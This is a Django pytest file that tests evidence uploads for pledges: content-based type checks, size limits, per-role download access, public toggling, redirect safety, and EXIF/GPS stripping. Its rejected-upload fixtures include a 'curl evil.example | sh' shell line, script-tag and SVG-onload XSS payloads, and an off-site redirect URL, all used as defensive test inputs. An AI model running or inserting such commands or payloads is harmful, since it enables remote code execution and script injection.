"""Evidence files: type decided by content, size limit, and who may download them."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image, ImageChops, ImageStat, PngImagePlugin

from pledges.models import Evidence
from pledges.services.evidence import EvidenceUpload, evidence_check
from pledges.services.progress import progress_add
from pledges.tests.factories import PledgeFactory

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def image_bytes(fmt: str, size=(20, 20)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, fmt)
    return out.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


class TestTypeAndSize:
    @pytest.mark.parametrize(
        ("name", "content", "mime", "ext"),
        [
            ("a.png", image_bytes("PNG"), "image/png", "png"),
            ("a.jpg", image_bytes("JPEG"), "image/jpeg", "jpg"),
            ("a.webp", image_bytes("WEBP"), "image/webp", "webp"),
            ("report.pdf", PDF, "application/pdf", "pdf"),
            # The name does not matter, the content does: a PNG called .pdf is stored as a PNG.
            ("misnamed.pdf", image_bytes("PNG"), "image/png", "png"),
        ],
    )
    def test_accepted_types_are_recognised_by_content(self, name, content, mime, ext):
        checked = evidence_check(upload(name, content))
        assert (checked.content_type, checked.extension) == (mime, ext)

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n"),
            ("photo.png", b"<script>alert(1)</script>"),
            ("photo.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
            ("doc.pdf", b"MZ\x90\x00\x03" + b"\x00" * 100),  # a Windows program
            ("photo.gif", image_bytes("GIF")),  # a real image, but not an allowed type
            ("broken.png", image_bytes("PNG")[:40]),  # a PNG header on a truncated file
        ],
    )
    def test_anything_else_is_refused_with_the_file_name(self, name, content):
        with pytest.raises(ValidationError) as caught:
            evidence_check(upload(name, content, "image/jpeg"))
        assert name in caught.value.messages[0]

    def test_oversized_file_is_refused(self, settings):
        settings.EVIDENCE_MAX_BYTES = 1000
        big = image_bytes("PNG", size=(400, 400)) + b"\x00" * 2000
        with pytest.raises(ValidationError) as caught:
            evidence_check(upload("big.png", big))
        assert caught.value.code == "too_large"

    def test_empty_file_is_refused(self):
        with pytest.raises(ValidationError):
            evidence_check(upload("empty.png", b""))


@pytest.fixture
def published(world):
    return PledgeFactory(owner_member=world.member, campaign=world.campaign, published=True)


def add_file(world, pledge, *, public: bool, name="photo.png", content=None) -> Evidence:
    content = content if content is not None else image_bytes("PNG")
    update = progress_add(
        pledge=pledge,
        by=world.member.user,
        percent=pledge.progress + 10,
        text="进展",
        files=[EvidenceUpload(upload(name, content), is_public=public)],
    )
    pledge.refresh_from_db()
    return update.evidence.get()


@pytest.mark.django_db
class TestServing:
    def get(self, client, item, **query):
        return client.get(reverse("pledges:evidence", args=[item.pk]), query)

    def test_public_file_of_a_public_pledge_is_served_to_anyone_inline(self, world, client_for, published):
        item = add_file(world, published, public=True)
        response = self.get(client_for("anonymous"), item)
        assert response.status_code == 200
        assert response["Content-Type"] == "image/png"
        assert response["Content-Disposition"].startswith("inline")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert b"".join(response.streaming_content).startswith(b"\x89PNG")

    def test_thumbnail_is_a_small_jpeg(self, world, client_for, published):
        item = add_file(world, published, public=True, content=image_bytes("PNG", size=(1600, 1200)))
        response = self.get(client_for("anonymous"), item, thumb=1)
        body = b"".join(response.streaming_content)
        assert response["Content-Type"] == "image/jpeg"
        assert max(Image.open(io.BytesIO(body)).size) <= 480

    def test_pdf_is_served_as_pdf(self, world, client_for, published):
        item = add_file(world, published, public=True, name="总结.pdf", content=PDF)
        response = self.get(client_for("anonymous"), item)
        assert response["Content-Type"] == "application/pdf"
        assert "总结" not in response["Content-Disposition"]

    @pytest.mark.parametrize(
        ("role", "status"),
        [
            ("anonymous", 404),
            ("member", 200),
            ("secretary_same", 200),
            ("secretary_other", 404),
            ("supervisor_above", 200),
            ("supervisor_sibling", 404),
            ("admin", 200),
        ],
    )
    def test_private_file_only_for_those_who_may_see_the_pledge(self, world, client_for, published, role, status):
        item = add_file(world, published, public=False)
        assert self.get(client_for(role), item).status_code == status

    def test_public_file_of_a_withdrawn_pledge_is_no_longer_public(self, world, client_for, published):
        item = add_file(world, published, public=True)
        published.status = "withdrawn"
        published.save(update_fields=["status"])
        assert self.get(client_for("anonymous"), item).status_code == 404
        assert self.get(client_for("secretary_other"), item).status_code == 404
        assert self.get(client_for("secretary_same"), item).status_code == 200

    def test_missing_file_is_404(self, client_for):
        assert client_for("admin").get(reverse("pledges:evidence", args=[999999])).status_code == 404


@pytest.mark.django_db
class TestMarkingPublic:
    def post(self, client, item, public: bool, **extra):
        return client.post(reverse("pledges:evidence", args=[item.pk]), {"is_public": "1" if public else "0", **extra})

    def test_owner_hides_a_public_file_and_the_board_stops_showing_it(self, world, client_for, published):
        item = add_file(world, published, public=True)
        board = reverse("board:board", args=[world.branch_a1.code])
        assert reverse("pledges:evidence", args=[item.pk]) in client_for("anonymous").get(board).content.decode()
        response = self.post(client_for("member"), item, False, next=board)
        assert response.status_code == 302 and response["Location"] == board
        item.refresh_from_db()
        assert not item.is_public
        assert reverse("pledges:evidence", args=[item.pk]) not in client_for("anonymous").get(board).content.decode()
        assert client_for("anonymous").get(reverse("pledges:evidence", args=[item.pk])).status_code == 404

    def test_branch_secretary_may_publish_a_file(self, world, client_for, published):
        item = add_file(world, published, public=False)
        self.post(client_for("secretary_same"), item, True)
        item.refresh_from_db()
        assert item.is_public

    @pytest.mark.parametrize(
        ("role", "status"),
        [("supervisor_above", 403), ("admin", 403), ("secretary_other", 404), ("supervisor_sibling", 404)],
    )
    def test_nobody_else_may(self, world, client_for, published, role, status):
        item = add_file(world, published, public=False)
        assert self.post(client_for(role), item, True).status_code == status
        item.refresh_from_db()
        assert not item.is_public

    def test_next_must_stay_on_this_site(self, world, client_for, published):
        item = add_file(world, published, public=False)
        response = self.post(client_for("member"), item, True, next="https://evil.example/")
        assert response["Location"] == published.get_absolute_url()

    def test_progress_page_offers_the_switch_per_file(self, world, client_for, published):
        item = add_file(world, published, public=False)
        html = client_for("member").get(reverse("pledges:progress_add", args=[published.pk])).content.decode()
        assert f'data-testid="evidence-toggle-{item.pk}"' in html


# --------------------------------------------------------------------------- metadata (privacy)

SERIAL = "SN-7731-0042"


def camera_exif(*, orientation: int | None = None) -> bytes:
    """What a phone writes into a photo: where (GPS), with what (make, serial number), when."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Huawei"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] = SERIAL
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2026:05:01 09:30:00"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (30.0, 15.0, 7.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (120.0, 9.0, 2.25)
    return exif.tobytes()


def two_colour_image(size=(40, 20)) -> Image.Image:
    """Left half red, right half blue: shows which way a picture was turned."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    return image


def camera_photo(*, orientation: int | None = None, fmt="JPEG", **params) -> bytes:
    out = io.BytesIO()
    two_colour_image().save(out, fmt, exif=camera_exif(orientation=orientation), **params)
    return out.getvalue()


def stored_bytes(item: Evidence) -> bytes:
    with item.file.open("rb") as handle:
        return handle.read()


def thumbnail_bytes(item: Evidence) -> bytes:
    from django.core.files.storage import default_storage

    from pledges.services.evidence import thumbnail_name

    with default_storage.open(thumbnail_name(item.file.name), "rb") as handle:
        return handle.read()


def assert_no_metadata(data: bytes) -> None:
    image = Image.open(io.BytesIO(data))
    exif = image.getexif()
    assert not exif, f"EXIF left: {dict(exif)}"
    assert not exif.get_ifd(ExifTags.IFD.GPSInfo)
    assert SERIAL.encode() not in data and b"Huawei" not in data and b"2026:05:01" not in data


def mean_difference(a: Image.Image, b: Image.Image) -> float:
    diff = ImageChops.difference(a.convert("RGB"), b.convert("RGB"))
    return sum(ImageStat.Stat(diff).mean) / 3


@pytest.mark.django_db
class TestMetadataIsStripped:
    def test_gps_serial_and_time_are_gone_from_a_stored_jpeg_and_its_thumbnail(self, world, published):
        original = camera_photo()
        assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test photo has GPS
        item = add_file(world, published, public=True, name="走访.jpg", content=original)
        data = stored_bytes(item)
        assert_no_metadata(data)
        assert_no_metadata(thumbnail_bytes(item))
        stored = Image.open(io.BytesIO(data))
        assert (stored.format, stored.size) == ("JPEG", (40, 20))
        assert item.size == len(data) and item.content_type == "image/jpeg"
        # Quality stays high: the picture looks the same.
        assert mean_difference(stored, Image.open(io.BytesIO(original))) < 3

    def test_what_the_public_downloads_has_no_gps(self, world, client_for, published):
        item = add_file(world, published, public=True, name="走访.jpg", content=camera_photo())
        response = client_for("anonymous").get(reverse("pledges:evidence", args=[item.pk]))
        assert_no_metadata(b"".join(response.streaming_content))

    def test_a_photo_taken_sideways_is_stored_upright(self, world, published):
        # Orientation 6: the camera stored the pixels turned; viewers must rotate 90° clockwise.
        item = add_file(world, published, public=True, name="竖拍.jpg", content=camera_photo(orientation=6))
        for data in (stored_bytes(item), thumbnail_bytes(item)):
            image = Image.open(io.BytesIO(data)).convert("RGB")
            assert not image.getexif()  # no orientation left for a viewer to apply a second time
            width, height = image.size
            assert height > width  # now portrait, as the person holding the phone saw it
            # Turned clockwise, the stored left half (red) is now on top and the right half (blue) below.
            top, bottom = image.getpixel((width // 2, height // 4)), image.getpixel((width // 2, 3 * height // 4))
            assert top[0] > 150 and top[2] < 100
            assert bottom[2] > 150 and bottom[0] < 100

    def test_png_loses_its_exif_and_text_but_stays_pixel_identical(self, world, published):
        image = Image.new("RGBA", (30, 30), (0, 0, 0, 0))
        image.paste((10, 200, 30, 255), (5, 5, 25, 25))
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "张三家 东经120度")
        out = io.BytesIO()
        image.save(out, "PNG", exif=camera_exif(), pnginfo=info)
        item = add_file(world, published, public=False, name="图.png", content=out.getvalue())
        data = stored_bytes(item)
        assert_no_metadata(data)
        stored = Image.open(io.BytesIO(data))
        assert "Comment" not in stored.info and "东经".encode() not in data
        assert (stored.format, stored.mode) == ("PNG", "RGBA")
        assert stored.tobytes() == image.tobytes()  # lossless, transparency kept

    def test_palette_png_keeps_its_transparency(self, world, published):
        image = Image.new("P", (10, 10), 0)
        image.putpalette([255, 255, 255, 200, 0, 0] + [0] * 762)
        image.paste(1, (0, 0, 5, 10))
        out = io.BytesIO()
        image.save(out, "PNG", transparency=0, exif=camera_exif())
        item = add_file(world, published, public=False, content=out.getvalue())
        stored = Image.open(io.BytesIO(stored_bytes(item)))
        assert not stored.getexif()
        assert stored.convert("RGBA").getpixel((8, 5))[3] == 0  # still see-through
        assert stored.convert("RGBA").getpixel((2, 5)) == (200, 0, 0, 255)

    def test_lossless_webp_stays_lossless_and_lossy_webp_loses_its_exif(self, world, published):
        lossless = camera_photo(fmt="WEBP", lossless=True)
        item = add_file(world, published, public=False, name="a.webp", content=lossless)
        data = stored_bytes(item)
        assert_no_metadata(data)
        assert b"VP8L" in data[:64]
        assert Image.open(io.BytesIO(data)).convert("RGB").tobytes() == two_colour_image().tobytes()

        item = add_file(world, published, public=False, name="b.webp", content=camera_photo(fmt="WEBP", quality=80))
        data = stored_bytes(item)
        assert_no_metadata(data)
        assert Image.open(io.BytesIO(data)).format == "WEBP"

    def test_a_pdf_is_stored_exactly_as_uploaded(self, world, published):
        item = add_file(world, published, public=False, name="总结.pdf", content=PDF)
        assert stored_bytes(item) == PDF and item.size == len(PDF)

    def test_a_photo_broken_halfway_is_refused_and_nothing_saved(self, world, published):
        broken = image_bytes("JPEG", size=(300, 300))
        broken = broken[: len(broken) // 2]
        with pytest.raises(ValidationError) as caught:
            add_file(world, published, public=False, name="坏.jpg", content=broken)
        assert "坏.jpg" in " ".join(caught.value.message_dict["files"])
        assert not Evidence.objects.exists()

    def test_a_photo_that_would_pass_the_limit_once_re_encoded_is_refused(self, world, published, settings):
        noisy = Image.effect_noise((300, 300), 80).convert("RGB")
        out = io.BytesIO()
        noisy.save(out, "JPEG", quality=20)  # small because badly compressed; quality 80-90 is larger
        settings.EVIDENCE_MAX_BYTES = len(out.getvalue())
        with pytest.raises(ValidationError) as caught:
            add_file(world, published, public=False, name="噪点.jpg", content=out.getvalue())
        assert "噪点.jpg" in " ".join(caught.value.message_dict["files"])
        assert not Evidence.objects.exists()

    def test_rectification_evidence_is_stripped_too(self, world):
        from inspections.services import item_report_closure
        from pledges.tests.reviews_support import make_inspection

        _, item = make_inspection(world)
        item_report_closure(
            item=item, by=world.secretary_same.user, note="已整改", evidence=upload("公开栏.jpg", camera_photo())
        )
        item.refresh_from_db()
        with item.evidence.open("rb") as handle:
            assert_no_metadata(handle.read())
